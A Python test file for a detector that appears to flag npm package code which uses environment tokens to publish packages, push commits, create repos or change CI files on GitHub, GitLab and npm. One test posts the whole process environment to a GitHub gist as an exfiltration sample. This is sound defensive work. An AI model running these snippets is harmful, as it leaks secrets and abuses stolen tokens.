"""What is changed at forges and registries by their clients is told, and what is only read or said is not."""

import pytest
from engine_flows import flows

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint

KIT = "const {Octokit} = require('@octokit/rest'); const o = new Octokit({auth: process.env.GITHUB_TOKEN});"
LAB = "new (require('@gitbeaker/rest').Gitlab)({token: process.env.GITLAB_TOKEN})"
CHANGED = [
    KIT + "o.rest.repos.createForAuthenticatedUser({name: 'a'})",
    KIT + "o.git.createRef({owner: 'a', repo: 'b', ref: 'refs/heads/c', sha: 'd'})",
    KIT + "o.request('POST /gists', {files: {a: {content: 'b'}}})",
    KIT + "o.request({method: 'put', url: '/repos/a/b/contents/c'})",
    KIT + "o.graphql('mutation { createRepository(input: {name: \"a\"}) { clientMutationId } }')",
    "require('@actions/github').getOctokit(process.env.GITHUB_TOKEN).rest.repos.createDispatchEvent({})",
    LAB + ".RepositoryFiles.create(1, '.gitlab-ci.yml', 'main', 'a', 'b')",
    "require('libnpmpublish').publish({}, '', {token: process.env.NPM_TOKEN})",
    "require('npm-registry-fetch')('/a', {method: 'PUT', token: process.env.NPM_TOKEN})",
    "require('libnpmaccess').setPermissions('a:b', 'c', 'read-write', {token: process.env.NPM_TOKEN})",
    "require('simple-git')(process.env.A_TOKEN).add('.').commit('a').push('origin', 'main')",
    "require('simple-git')(process.env.A_TOKEN).raw(['push', 'origin'])",
    "require('@npmcli/git').spawn(['push', 'origin', process.env.A_TOKEN])",
]
KEPT = [
    KIT + "o.repos.getLatestRelease({owner: 'a', repo: 'b'})",
    KIT + "o.issues.createComment({owner: 'a', repo: 'b', issue_number: 1, body: 'c'})",
    KIT + "o.rest.issues.addLabels({owner: 'a', repo: 'b', issue_number: 1, labels: ['c']})",
    KIT + "o.request('GET /repos/{owner}/{repo}', {owner: 'a', repo: 'b'})",
    KIT + "o.request('POST /repos/{owner}/{repo}/issues/1/comments', {owner: 'a', repo: 'b'})",
    KIT + "o.graphql('query { viewer { login } }')",
    "require('@octokit/auth-app').createAppAuth({appId: 1})",
    "require('npm-registry-fetch').json('/a', {token: process.env.NPM_TOKEN})",
    "require('libnpmaccess').getPackages('a')",
    "require('simple-git')('.').log()",
    "require('simple-git')('.').raw(['status'])",
]


@pytest.mark.parametrize("text", CHANGED)
def test_what_changes_something_there(text: str) -> None:
    (one,) = flows(text, Act.PUBLISH, "npm")
    assert one.reach is Reach.IMPORT
    assert one.has(Taint.TOKEN)
    (later,) = flows(f"exports.go = () => {{ {text} }}", Act.PUBLISH, "npm")
    assert later.reach is Reach.CALL


@pytest.mark.parametrize("text", KEPT)
def test_what_is_read_or_said(text: str) -> None:
    assert not flows(text, Act.PUBLISH, "npm")


def test_loot_in_a_route_is_sent() -> None:
    text = KIT + "o.request('POST /gists', {files: {a: {content: JSON.stringify(process.env)}}})"
    assert [one for one in flows(text, Act.SEND, "npm") if one.has(Taint.ENVIRONMENT)]
